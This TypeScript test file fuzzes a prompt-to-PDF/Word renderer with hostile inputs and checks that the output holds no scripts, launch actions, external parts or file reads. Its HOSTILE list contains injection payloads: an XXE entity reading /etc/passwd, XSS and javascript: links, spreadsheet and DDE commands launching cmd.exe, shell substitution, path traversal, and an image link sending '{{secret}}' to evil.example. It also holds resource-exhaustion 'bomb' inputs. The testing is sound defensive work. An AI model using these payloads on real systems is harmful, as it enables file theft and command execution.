import { afterAll, describe, expect, it, vi } from 'vitest';
import type { DocumentPrompt } from '#server/ports/documents.ts';
import { createDocuments, DOCUMENT_MS } from './create-documents.ts';
import { parsePdf } from './pdf-file.ts';
import { seeded } from './testing/corpus.ts';
import { readPdf } from './testing/pdf-reader.ts';
import { wordFaults, wordText } from './testing/word-reader.ts';

// The pool's own limit is of the clock, which other programs use up too: here it ends only what never ends.
const NEVER_MS = 240_000;
const documents = createDocuments({ brand: 'Promptwell', timeoutMs: NEVER_MS });
vi.setConfig({ testTimeout: NEVER_MS + 20_000 });
afterAll(() => documents.close());

const CONTROLS = Array.from({ length: 32 }, (_, code) => String.fromCharCode(code)).join('x');

/** Texts that broke some exporter, or were written to: each is used as every field at once. */
const HOSTILE: string[] = [
  '',
  ' ',
  '\n\n\n',
  CONTROLS,
  '\u0000',
  'a\u000bb\u000cc',
  '\u007f\u0080\u009f',
  'x\uFFFEy',
  'x\uFFFFy',
  'x\uFDD0y\uFDD1z\uFDEF',
  '\u{1FFFE}\u{10FFFF}',
  'lone \uD800 high',
  'lone \uDC00 low',
  '\uDC00\uD800',
  'a\u2028b\u2029c\u0085d',
  '\uFEFFbom',
  'zero\u200bwidth\u2060joiner\u00adsoft',
  '\u202Eevil\u202C \u2066x\u2069 \u200f\u200e',
  '\u{E0001}\u{E0041}\u{E007F}',
  'Z' + '\u0300\u0301\u0302'.repeat(60),
  '\uE000 private \u{10FFFD}',
  ']]>',
  '<![CDATA[x]]>',
  '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>',
  '&amp; &lt; &#0; &#xFFFE; &bogus;',
  '</w:t></w:r></w:p><w:p>',
  '<w:hyperlink r:id="rId99"/>',
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '<!-- comment',
  '#read("/etc/passwd")',
  '#import "@preview/cetz:0.3.0"',
  '#{sys.inputs}',
  '#eval("1+1") $x^2$ @ref <label>',
  '#set page(width: 1pt)',
  '"); panic("x',
  '\\u{41} \\n \\" \\\\',
  '"quoted" and \\',
  '{{ }}',
  '{{}}',
  '{{{{name}}}}',
  '{{a}}{{b}}{{c}}',
  '\\{{literal}} \\\\{{x}}',
  '{{' + 'n'.repeat(40) + '}} {{' + 'n'.repeat(41) + '}}',
  '{{__proto__}} {{constructor}}',
  '{page} {total} {{page}} {{total}}',
  '=1+1',
  '=HYPERLINK("https://evil.example","x")',
  '+1 -1 @SUM(A1) \tTAB',
  "=cmd|' /C calc'!A0",
  'https://example.com/?q=<>"&x=1#f',
  '[x](javascript:alert(1))',
  '[x](JaVaScRiPt:alert(1)) [y](data:text/html,x) [z](vbscript:x) [w](file:///etc/passwd)',
  '[x](https://exa mple.com) [y](http://) [z](https://[::1) <https://ok.example>',
  '![x](https://evil.example/?q={{secret}})',
  '[r]: https://evil.example "t"\n\n[r] [r][r] ![r]',
  '{ INCLUDEPICTURE "https://evil.example/x.png" }',
  '{ DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc" }',
  '../../../etc/passwd',
  'C:\\Windows\\System32',
  'con.pdf',
  'n'.repeat(255),
  'é'.repeat(127),
  '你'.repeat(85),
  '😀'.repeat(63),
  'ش'.repeat(127),
  '%s %d %n %x ${x} `id` $(id)',
  '🏳️‍🌈👩‍👩‍👧‍👦🇱🇧🇱',
  'हिन्दी\u094d\u094d\u094d',
  'ﷺﷲ\u0640\u0640',
  '| a |\n|---|\n|',
  '|a|b\n|-\n|x',
  '```\nunclosed',
  '~~~~\n```\n~~~',
  '- [ ]\n- [x]\n-',
  '1. \n99999999999. x\n0. y',
  '# \n####### seven\n#no',
  '# one\n###### six\n# one',
  '[^1]\n\n[^1]: [^1] loop',
  '- # heading in list\n  > ```\n  > code',
];

/** Pieces of these recombined, the same ones every time: 500 in all when proving. */
const MIXED: string[] = (() => {
  const random = seeded(20_261_121);
  const count = process.env['EXHAUSTIVE'] ? 500 - HOSTILE.length : 25;
  const pick = (): string => HOSTILE[Math.floor(random() * HOSTILE.length)] ?? '';
  const glue = ['', ' ', '\n', '\n\n', '\n- ', '\n> ', '|', '`', '**', '{{', '\u200f', 'نص '];
  return Array.from({ length: count }, () =>
    Array.from(
      { length: 2 + Math.floor(random() * 4) },
      () => pick().slice(0, 400) + (glue[Math.floor(random() * glue.length)] ?? ''),
    ).join(''),
  );
})();

const BOMBS: Record<string, string> = {
  quotes: '> '.repeat(5000) + 'x',
  brackets: '['.repeat(20_000),
  images: '!['.repeat(10_000),
  bullets: '- '.repeat(5000) + 'x',
  numbers: '1. '.repeat(5000) + 'x',
  alternating: '> - '.repeat(2500) + 'x',
  noFence: '``` `\n' + '> '.repeat(5000) + 'x',
  indented: Array.from({ length: 250 }, (_, level) => `${' '.repeat(2 * level)}- x`).join('\n'),
  stars: '*a **b '.repeat(5000),
  underscores: '_'.repeat(20_000),
  ticks: Array.from({ length: 300 }, (_, count) => '`'.repeat(count + 1)).join(' '),
  tags: '<a '.repeat(10_000),
  entities: '&'.repeat(20_000),
  columns: `${'|a'.repeat(5000)}\n${'|-'.repeat(5000)}`,
  nestedLinks: '[a](b '.repeat(5000),
  braces: '{{'.repeat(10_000),
  fences: '```\n'.repeat(5000),
  oneWord: 'a'.repeat(20_000),
  lines: 'x\n'.repeat(10_000),
};

const all = ['title', 'description', 'body', 'variables', 'metadata'] as const;
const everywhere = (text: string): DocumentPrompt => ({
  title: text,
  description: text,
  body: text,
  categoryName: text,
  tags: [text, text],
  variables: [
    {
      name: text,
      label: text,
      type: 'text',
      required: true,
      default: text,
      options: [text],
      help: text,
    },
  ],
  language: text,
  direction: 'auto',
  author: text,
  version: 1,
  updatedAt: text,
});
const render = (format: 'pdf' | 'docx', prompt: DocumentPrompt) =>
  documents.render(format, prompt, { locale: 'en', sections: [...all] });

const TEXTS = [...HOSTILE, ...MIXED].map((text, index) => ({
  index,
  text,
  tags: index < HOSTILE.length ? [] : ['long'],
}));
describe.each(TEXTS)('hostile text $index', ({ text, tags }) => {
  it('makes a PDF that opens, with nothing in it that acts', { tags }, async () => {
    const bytes = await render('pdf', everywhere(text));
    const { pages, links } = await readPdf(bytes);
    expect(pages).toBeGreaterThan(0);
    for (const link of links) expect(link).toMatch(/^(?:https?:\/\/|mailto:)/);
    // Dictionaries alone: among a stream's packed bytes there is a `/JS` now and then.
    for (const { value } of parsePdf(bytes).objects.values()) {
      expect(value).not.toMatch(/\/(?:JS|JavaScript|Launch|EmbeddedFile)\b/);
    }
  });

  it(
    'makes a well-formed Word file with no external part and no field of its own',
    { tags },
    async () => {
      expect(wordFaults(await render('docx', everywhere(text)))).toEqual([]);
    },
  );
});

/** A document, held to the milliseconds that the pool gives it: those of the processor, in all threads of this process. */
async function renderInTime(format: 'pdf' | 'docx', prompt: DocumentPrompt): Promise<Uint8Array> {
  const before = process.cpuUsage();
  const bytes = await render(format, prompt);
  const { user, system } = process.cpuUsage(before);
  expect((user + system) / 1000).toBeLessThan(DOCUMENT_MS);
  return bytes;
}

describe.each(Object.entries(BOMBS))('a body of %s', (_, body) => {
  const prompt = { ...everywhere('x'), body };

  it('makes a PDF within the limit that the pool sets', async () => {
    expect((await readPdf(await renderInTime('pdf', prompt))).pages).toBeGreaterThan(0);
  });

  it('makes a well-formed Word file within it', async () => {
    expect(wordFaults(await renderInTime('docx', prompt))).toEqual([]);
  });
});

it('prints Typst code as text', async () => {
  const { text } = await readPdf(await render('pdf', everywhere('#read("/etc/passwd")')));
  expect(text).toContain('#read("/etc/passwd")');
  expect(text).not.toContain('root:');
});

it('keeps every line of a body that Markdown would choke on', async () => {
  const body = `first {{name}}\n\n${'['.repeat(3000)}\n\nlast`;
  const text = wordText(await render('docx', { ...everywhere('x'), body }));
  expect(text).toContain('first {{name}}');
  expect(text).toContain('['.repeat(3000));
  expect(text).toContain('last');
});
